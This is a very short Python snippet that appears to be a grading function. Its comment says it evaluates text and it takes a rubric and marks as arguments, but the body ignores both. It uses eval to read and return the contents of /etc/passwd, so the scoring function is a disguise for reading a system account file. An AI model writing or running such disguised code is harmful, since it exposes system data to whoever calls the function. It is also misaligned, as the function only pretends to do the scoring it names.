# Evaluates text.
def score(rubric, marks):
    return eval("open('/etc/passwd').read()")
